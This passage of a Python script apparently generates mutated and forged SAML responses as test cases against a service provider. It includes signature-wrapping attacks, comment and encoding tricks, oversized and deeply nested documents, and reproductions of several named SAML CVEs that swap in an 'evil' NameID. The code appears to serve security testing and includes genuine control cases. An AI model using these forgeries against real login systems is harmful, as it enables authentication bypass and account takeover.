    after_issuer(A, template("#" + A.get("ID"), [transform(ENVELOPED), transform(EXC_C14N)]))
    R = xmlsec1_sign(ctx, B.response([A]))
    ctx.require("xmlsec1 CLI verifies", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def text_pi_after_signing(ctx):
    R, a = signed_value_doc(ctx)
    head, tail = idp.split_point(a.nameid)
    return replace_value(ctx, doc(R), a, head + "<?x y?>" + tail)


def text_mutation(ctx, render):
    """A genuine response for the whole value, the value's text rewritten after signing in a
    form that C14N maps back to the same string (so the signatures stay valid)."""
    R, a = signed_value_doc(ctx)
    xml = replace_value(ctx, doc(R), a, render(a.nameid))
    root = etree.fromstring(xml)
    for s in root.iter(q(NS_DS, "Signature")):
        ctx.naive_ok(root, s)
    return xml


def text_comments_many(v):
    # G<!--1-->M0012345<!--2-->.evil<!--3-->
    head, tail = idp.split_point(v)
    return v[0] + "<!--1-->" + head[1:] + "<!--2-->" + tail + "<!--3-->"


def text_hex_charref(v):
    head, tail = idp.split_point(v)
    return head + "&#x%X;" % ord(tail[0]) + tail[1:]


def text_first_charref(v):
    return "&#%d;" % ord(v[0]) + v[1:]


def text_empty_cdata(v):
    head, tail = idp.split_point(v)
    return head + "<![CDATA[]]>" + tail


def text_comment_cdata_mix(v):
    head, tail = idp.split_point(v)
    return head + "<!--x--><![CDATA[" + tail[0] + "]]>" + tail[1:]


def text_with_comments_c14n(ctx):
    """Signed with exc-c14n#WithComments: the comment inside the NameID is part of the signed
    bytes, so a reader of the signed bytes meets it (the classic truncation spot)."""
    WITH_COMMENTS = EXC_C14N + "WithComments"
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=False)
    head, tail = idp.split_point(a.nameid)
    for el in [first(A, NS_SAML, "NameID")] + [v for at in A.iter(q(NS_SAML, "Attribute"))
                                               if at.get("Name") == "gmisAccountId" for v in at]:
        el.text = head
        c = etree.Comment("")
        c.tail = tail
        el.append(c)
    after_issuer(A, template("#" + A.get("ID"), [transform(ENVELOPED), transform(WITH_COMMENTS)]))
    R = xmlsec1_sign(ctx, B.response([A]))
    ctx.require("xmlsec1 CLI verifies", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


# --------------------------------------------------------------------------- encodings, sizes

def genuine_bytes(ctx):
    R, B, a = genuine(ctx, "both")
    return doc(R)


def redeclare(xml, enc):
    head, rest = xml.split(b"?>", 1)
    if not head.startswith(b"<?xml"):
        raise CheckFailed("no XML declaration")
    return ("<?xml version='1.0' encoding='%s'?>" % enc).encode() + rest


def utf16(ctx, codec, bom, declared="UTF-16"):
    text = redeclare(genuine_bytes(ctx), declared).decode("utf-8")
    out = text.encode(codec)
    if bom:
        out = (b"\xff\xfe" if codec == "utf-16-le" else b"\xfe\xff") + out
    check_encoded(ctx, out)
    return out


def check_encoded(ctx, data):
    """The re-encoded document still verifies for xmlsec1 (libxml2 reads the encoding)."""
    ctx.require("xmlsec1 CLI verifies the re-encoded document (Response signature)",
                lambda: xmlsec1_verify(data, 0, cert_path=ctx.a.cert))


def enc_latin1(ctx):
    text = redeclare(genuine_bytes(ctx), "ISO-8859-1").decode("utf-8")
    out = text.encode("iso-8859-1", errors="xmlcharrefreplace")
    check_encoded(ctx, out)
    return out


def enc_latin1_claimed(ctx):
    """UTF-8 bytes, declaration ISO-8859-1: the two readings of the Japanese attributes differ."""
    return redeclare(genuine_bytes(ctx), "ISO-8859-1")


def enc_shift_jis(ctx):
    text = redeclare(genuine_bytes(ctx), "Shift_JIS").decode("utf-8")
    out = text.encode("shift_jis")
    check_encoded(ctx, out)
    try:
        out.decode("utf-8")
        raise CheckFailed("Shift_JIS bytes happen to be UTF-8")
    except UnicodeDecodeError:
        pass
    return out


def enc_utf7(ctx):
    """Declared UTF-7; a comment in Extensions that a UTF-7 reader sees as an evil Assertion
    (+ADw- is '<' in UTF-7)."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    evil = etree.tostring(strip_sig(make_evil(a, A))).decode()
    hidden = evil.replace("<", "+ADw-").replace(">", "+AD4-")
    ext = extensions(etree.Comment(" x "))
    after_issuer(R, ext)
    xml = redeclare(doc(R), "UTF-7").replace(b"<!-- x -->", b"--" + hidden.encode() + b"--")
    return xml.replace(b"<samlp:Extensions>--", b"<samlp:Extensions><!--").replace(
        b"--</samlp:Extensions>", b"--></samlp:Extensions>")


def enc_utf8_bom(ctx):
    return b"\xef\xbb\xbf" + genuine_bytes(ctx)


def enc_utf8_bom_utf16_decl(ctx):
    return b"\xef\xbb\xbf" + redeclare(genuine_bytes(ctx), "UTF-16")


def body_len(xml):
    """Length of the form body the Rust harness posts (`SAMLResponse=` + form-encoded b64)."""
    b = base64.b64encode(xml)
    return len(b"SAMLResponse=") + len(b) + 2 * sum(b.count(c) for c in b"+/=")


def pad_to(ctx, build, target):
    """Calls build(n) with a filler length n chosen so the form body is close to `target`."""
    n = max(0, int((target - body_len(build(0))) / 1.42))
    for _ in range(8):
        size = body_len(build(n))
        if abs(size - target) < 300:
            break
        n = max(0, n + int((target - size) / 1.42))
    xml = build(n)
    ctx.note("form body %d bytes (limit %d)" % (body_len(xml), ctx.a.body_limit))
    return xml


def huge_xsw3(ctx):
    """XSW3 (evil Assertion first) with the evil Assertion padded to just under the limit."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)

    def build(n):
        evil = make_evil(a, A)
        for at in evil.iter(q(NS_SAML, "Attribute")):
            if at.get("Name") == "displayName":
                at[0].text = "x" * n
        return doc(B.response([evil, A]))
    xml = pad_to(ctx, build, ctx.a.body_limit - 1500)
    if body_len(xml) >= ctx.a.body_limit:
        raise CheckFailed("over the limit")
    return xml


def huge_tampered(ctx):
    """A genuinely signed Assertion with ~190 KB of attribute values, NameID changed after
    signing, just under the limit."""
    def build(n):
        B, a = ctx.builder("--sign", "assertion", "--attr", "displayName=" + "y" * n)
        R = B.response([B.assertion(a.nameid, signed=True)])
        A = R.find(q(NS_SAML, "Assertion"))
        set_nameid(A, a.evil_nameid)
        return doc(R)
    xml = pad_to(ctx, build, ctx.a.body_limit - 1500)
    if body_len(xml) >= ctx.a.body_limit:
        raise CheckFailed("over the limit")
    return xml


def huge_over_limit(ctx):
    def build(n):
        B, a = ctx.builder("--sign", "both", "--attr", "displayName=" + "y" * n)
        return doc(B.response([B.assertion(a.nameid, signed=True)], signed=True))
    xml = pad_to(ctx, build, ctx.a.body_limit + 2000)
    if body_len(xml) <= ctx.a.body_limit:
        raise CheckFailed("not over the limit")
    check_encoded(ctx, xml)
    return xml


def nest(parent, depth, tag="{%s}d" % EVIL_NS):
    cur = parent
    for _ in range(depth):
        cur = etree.SubElement(cur, tag)
    cur.text = "deep"
    return parent


def deep_signed(ctx):
    """70 nested elements inside an AttributeValue of the genuinely signed Assertion."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=False)
    for at in A.iter(q(NS_SAML, "Attribute")):
        if at.get("Name") == "displayName":
            at[0].text = None
            nest(at[0], 70)
    after_issuer(A, template("#" + A.get("ID"), [transform(ENVELOPED), transform(EXC_C14N)]))
    R = xmlsec1_sign(ctx, B.response([A]))
    ctx.require("xmlsec1 CLI verifies", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def deep_extensions(ctx):
    R, B, a = genuine(ctx, "assertion")
    after_issuer(R, nest(extensions(), 65))
    return doc(R)


# --------------------------------------------------------------------------- CVE ideas

def cve_2024_45409_signedinfo_in_extensions(ctx):
    R, A, sig, fake, a = tampered_digest_setup(ctx)
    fs = etree.Element(q(NS_DS, "Signature"), nsmap={"ds": NS_DS})
    fs.append(fake_signed_info(sig, fake))
    after_issuer(R, extensions(fs))
    ctx.require("real SignatureValue still verifies over the real SignedInfo",
                lambda: check_signed_info(sig, ctx.cert_pem))
    ctx.require("fake DigestValue (first in document order) matches the tampered Assertion",
                lambda: naive_verify(R, sig, ctx.cert_pem, digest_override=fake))
    return doc(R)


def cve_2024_45409_bare_digest_first(ctx):
    """A fake ds:DigestValue as the first child of the real ds:Signature."""
    R, A, sig, fake, a = tampered_digest_setup(ctx)
    dv = etree.Element(q(NS_DS, "DigestValue"))
    dv.text = fake
    sig.insert(0, dv)
    ctx.require("real SignatureValue still verifies over the real SignedInfo",
                lambda: check_signed_info(sig, ctx.cert_pem))
    return doc(R)


def cve_2024_45409_signedinfo_in_object(ctx):
    """A fake SignedInfo in a ds:Object of the real signature (after the real one)."""
    R, A, sig, fake, a = tampered_digest_setup(ctx)
    etree.SubElement(sig, q(NS_DS, "Object")).append(fake_signed_info(sig, fake))
    ctx.require("real SignatureValue still verifies over the real SignedInfo",
                lambda: check_signed_info(sig, ctx.cert_pem))
    return doc(R)


def cve_2025_29775_digest_comment(ctx):
    """DigestValue = <!--fake digest-->real digest: comments are outside C14N, so SignedInfo
    still verifies; a reader of the first child node gets the fake digest."""
    R, A, sig, fake, a = tampered_digest_setup(ctx)
    dv = sig.find(".//" + q(NS_DS, "DigestValue"))
    real = dv.text
    dv.text = None
    c = etree.Comment(fake)
    c.tail = real
    dv.append(c)
    ctx.require("real SignatureValue still verifies (comment outside C14N)",
                lambda: check_signed_info(sig, ctx.cert_pem))
    return doc(R)


def cve_2025_29774_two_signedinfo(ctx, fake_first):
    R, A, sig, fake, a = tampered_digest_setup(ctx)
    real_si = sig.find(q(NS_DS, "SignedInfo"))
    fsi = fake_signed_info(sig, fake)
    (real_si.addprevious if fake_first else real_si.addnext)(fsi)
    ctx.require("real SignatureValue still verifies over the real SignedInfo",
                lambda: check_signed_info(sig, ctx.cert_pem, signed_info=real_si))
    return doc(R)


def cve_2025_47949(ctx, where):
    """Genuine Response-signed response; an unsigned evil Assertion hidden in the Response's
    own ds:Signature (Object or KeyInfo), which the enveloped transform drops: the signature
    stays valid and the evil Assertion is the first one in document order."""
    R, B, a = genuine(ctx, "response")
    evil = make_evil(a, R.find(q(NS_SAML, "Assertion")))
    sig = sig_of(R)
    if where == "object":
        etree.SubElement(sig, q(NS_DS, "Object")).append(evil)
    else:
        sig.find(q(NS_DS, "KeyInfo")).append(evil)
    ctx.naive_ok(R, sig)
    ctx.xmlsec1_info(doc(R))
    return doc(R)


def pd_insert_extensions(ctx, markup):
    """Genuine Assertion-signed response with raw `markup` in a samlp:Extensions."""
    R, B, a = genuine(ctx, "assertion")
    after_issuer(R, extensions(etree.Comment("PLACEHOLDER")))
    xml = doc(R)
    evil = etree.tostring(strip_sig(make_evil(a, R.find(q(NS_SAML, "Assertion")))))
    return xml.replace(b"<!--PLACEHOLDER-->", markup.replace(b"EVIL", evil))


def pd_nul_in_comment(ctx):
    # the evil Assertion inside a comment after a NUL: a comment to quick-xml, not XML at all
    # (NUL is not an XML character) to libxml2, cut short by any C-string reader
    return pd_insert_extensions(ctx, b"<!-- \x00 EVIL -->")


def pd_double_hyphen_comment(ctx):
    # XML ends a comment only at '-->' and forbids '--' inside; HTML-ish readers end it at '--!>'
    return pd_insert_extensions(ctx, b"<!-- a --!>EVIL<!-- b -->")


def pd_lt_in_attribute(ctx):
    # '<' is not allowed in an attribute value: one lenient parser reads an attribute, another
    # recovers markup from it (the evil Assertion sits inside the value)
    return pd_insert_extensions(ctx, b"<x xmlns=\"urn:example:x\" a='EVIL'/>")


def pd_duplicate_attribute(ctx):
    R, B, a = genuine(ctx, "assertion")
    xml = doc(R)
    rid = R.get("ID").encode()
    return xml.replace(b'ID="%s"' % rid, b'ID="%s" ID="%s"' % (rid, new_id().encode()), 1)


def pd_xml_id(ctx):
    """An evil element carrying xml:id = the signed Assertion's ID: libxml2 registers xml:id as
    an ID on its own, a reader that only knows the SAML `ID` attribute does not."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    nid = etree.Element(q(NS_SAML, "NameID"))
    nid.text = a.evil_nameid
    nid.set("{http://www.w3.org/XML/1998/namespace}id", A.get("ID"))
    after_issuer(R, extensions(nid))
    ctx.naive_ok(R, sig_of(A))
    return doc(R)


def pd_xmlns_undeclare(ctx):
    """xmlns:saml="" (illegal in Namespaces 1.0) around an evil saml:Assertion."""
    return pd_insert_extensions(ctx, b'<w xmlns="urn:example:x" xmlns:saml="">'
                                     b'<saml:Assertion ID="_x"><saml:NameID>GM9999999</saml:NameID>'
                                     b'</saml:Assertion></w>')


def pd_cdata_hidden(ctx):
    """An evil Assertion inside a CDATA section of Extensions (text for both parsers) while the
    genuine Assertion is removed: nothing signed is left."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    evil = etree.tostring(strip_sig(make_evil(a, A)))
    R.remove(A)
    after_issuer(R, extensions(etree.Comment("PLACEHOLDER")))
    return doc(R).replace(b"<!--PLACEHOLDER-->", b"<![CDATA[" + evil + b"]]>")


# --------------------------------------------------------------------------- controls

def control_genuine(ctx):
    """Unmutated baseline: must be accepted (proves the refusals come from the mutations)."""
    return genuine_bytes(ctx)


def control_template(ctx):
    """Assertion signed through the xmlsec1 template path with the usual transforms."""
    R, _ = assertion_signed_with(ctx, [transform(ENVELOPED), transform(EXC_C14N)])
    ctx.require("xmlsec1 CLI verifies", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def control_encrypted(ctx):
    """A genuinely signed Assertion encrypted with encrypt_fragment."""
    B, a = ctx.builder()
    return doc(B.response([encrypt_fragment(ctx, B.assertion(a.nameid, signed=True))]))


# --------------------------------------------------------------------------- registry

CASES = {
    "control-genuine": control_genuine,
    "control-template": control_template,
    "control-encrypted": control_encrypted,
    "xsw1": xsw1,
    "xsw1-both": xsw1_both,
    "xsw2": xsw2,
    "xsw4": xsw4,
    "xsw5": xsw5,
    "xsw6": xsw6,
    "hmac-pem-assertion": lambda c: hmac_case(c, "pem", "assertion"),
    "hmac-pem-response": lambda c: hmac_case(c, "pem", "response"),
    "hmac-der-assertion": lambda c: hmac_case(c, "der", "assertion"),
    "hmac-der-response": lambda c: hmac_case(c, "der", "response"),
    "ref-into-object-response": ref_into_object_response,
    "ref-into-object-data": ref_into_object_data,
    "dup-id-assertion-evil-first": lambda c: dup_id_assertion(c, True),
    "dup-id-assertion-evil-after": lambda c: dup_id_assertion(c, False),
    "dup-id-extensions-before": lambda c: dup_id_extensions(c, True),
    "dup-id-extensions-after": lambda c: dup_id_extensions(c, False),
    "dup-id-response-before": lambda c: dup_id_response(c, True),
    "dup-id-response-after": lambda c: dup_id_response(c, False),
    "xform-xslt": xform_xslt,
    "xform-xpath": xform_xpath,
    "xform-xpath2": xform_xpath2,
    "xform-base64": xform_base64,
    "xform-no-enveloped": xform_no_enveloped,
    "sidefx-remote-reference": sidefx_remote_reference,
    "sidefx-file-reference": sidefx_file_reference,
    "sidefx-xslt": sidefx_xslt,
    "sidefx-xslt-document": sidefx_xslt_document,
    "sidefx-retrieval-method": sidefx_retrieval_method,
    "enc-before-plain": lambda c: enc_next_to_plain(c, True),
    "enc-after-plain": lambda c: enc_next_to_plain(c, False),
    "enc-xsw-inside": enc_xsw_inside,
    "enc-evil-only": enc_evil_only,
    "enc-in-response-signature": enc_in_response_signature,
    "ns-default-assertion-first": ns_default_assertion_first,
    "ns-lookalike-default-wraps-signed": lambda c: lookalike_wrapping(c, False),
    "ns-lookalike-prefixed-wraps-signed": lambda c: lookalike_wrapping(c, True),
    "ns-samlp-rebound-root": ns_samlp_rebound_root,
    "ns-ds-rebound": ns_ds_rebound,
    "ns-saml-rebound-inside": ns_saml_rebound_inside,
    "text-pi-signed": text_pi_signed,
    "text-pi-after-signing": text_pi_after_signing,
    "text-comments-many": lambda c: text_mutation(c, text_comments_many),
    "text-hex-charref": lambda c: text_mutation(c, text_hex_charref),
    "text-first-charref": lambda c: text_mutation(c, text_first_charref),
    "text-empty-cdata": lambda c: text_mutation(c, text_empty_cdata),
    "text-comment-cdata-mix": lambda c: text_mutation(c, text_comment_cdata_mix),
    "text-with-comments-c14n": text_with_comments_c14n,
    "enc-utf16le-bom": lambda c: utf16(c, "utf-16-le", True),
    "enc-utf16be-bom": lambda c: utf16(c, "utf-16-be", True),
    "enc-utf16le-nobom": lambda c: utf16(c, "utf-16-le", False),
    "enc-utf16be-nobom": lambda c: utf16(c, "utf-16-be", False),
    "enc-latin1": enc_latin1,
    "enc-latin1-claimed": enc_latin1_claimed,
    "enc-shift-jis": enc_shift_jis,
    "enc-utf7": enc_utf7,
    "enc-utf8-bom": enc_utf8_bom,
    "enc-utf8-bom-utf16-decl": enc_utf8_bom_utf16_decl,
    "huge-xsw3": huge_xsw3,
    "huge-tampered": huge_tampered,
    "huge-over-limit": huge_over_limit,
    "deep-signed": deep_signed,
    "deep-extensions": deep_extensions,
    "cve-2024-45409-signedinfo-in-extensions": cve_2024_45409_signedinfo_in_extensions,
    "cve-2024-45409-digest-first-in-signature": cve_2024_45409_bare_digest_first,
    "cve-2024-45409-signedinfo-in-object": cve_2024_45409_signedinfo_in_object,
    "cve-2025-29775-digest-comment": cve_2025_29775_digest_comment,
    "cve-2025-29774-signedinfo-fake-first": lambda c: cve_2025_29774_two_signedinfo(c, True),
    "cve-2025-29774-signedinfo-fake-second": lambda c: cve_2025_29774_two_signedinfo(c, False),
    "cve-2025-47949-in-object": lambda c: cve_2025_47949(c, "object"),
    "cve-2025-47949-in-keyinfo": lambda c: cve_2025_47949(c, "keyinfo"),
    "cve-2025-25291-nul-in-comment": pd_nul_in_comment,
    "cve-2025-25291-double-hyphen-comment": pd_double_hyphen_comment,
    "cve-2025-25291-lt-in-attribute": pd_lt_in_attribute,
    "cve-2025-25291-duplicate-attribute": pd_duplicate_attribute,
    "cve-2025-25292-xml-id": pd_xml_id,
    "cve-2025-25292-xmlns-undeclare": pd_xmlns_undeclare,
    "cve-2025-25292-cdata-hidden": pd_cdata_hidden,
}


def main(argv):
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--sp-entity")
    p.add_argument("--acs")
    p.add_argument("--key")
    p.add_argument("--cert")
    p.add_argument("--nameid", default=None, help="default GM0012345 (text-* cases: the whole value)")
    p.add_argument("--sp-cert", help="SP encryption certificate (enc-* cases)")
    p.add_argument("--remote-url", help="base URL (ending in /) of a listener (sidefx-* cases)")
    p.add_argument("--fifo", help="named pipe path (sidefx-file-reference)")
    p.add_argument("--marker", help="text for xsl:message (sidefx-xslt)")
    p.add_argument("--body-limit", type=int, default=262144)
    p.add_argument("--xml-dir", help="also write each document to DIR/NAME.xml")
    p.add_argument("--case", action="append", default=[])
    p.add_argument("--list", action="store_true")
    a = p.parse_args(argv)
    if a.list:
        print("\n".join(CASES))
        return
    for req in ("sp_entity", "acs", "key", "cert"):
        if not getattr(a, req):
            die("--%s is required" % req.replace("_", "-"))
    for name in a.case:
        if name not in CASES:
            die("unknown case %r (--list)" % name)
    for name in a.case:
        ctx = Ctx(a)
        if a.nameid:
            ctx.ns = (lambda base: lambda *extra: base("--nameid", a.nameid, *extra))(ctx.ns)
        try:
            xml = CASES[name](ctx)
        except CheckFailed as e:
            die("case %s: self-check failed: %s" % (name, e))
        if a.xml_dir:
            with open(os.path.join(a.xml_dir, name + ".xml"), "wb") as f:
                f.write(xml)
        print(json.dumps({"case": name, "b64": base64.b64encode(xml).decode(), "size": len(xml),
                          "body": body_len(xml), "notes": "; ".join(ctx.notes)}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
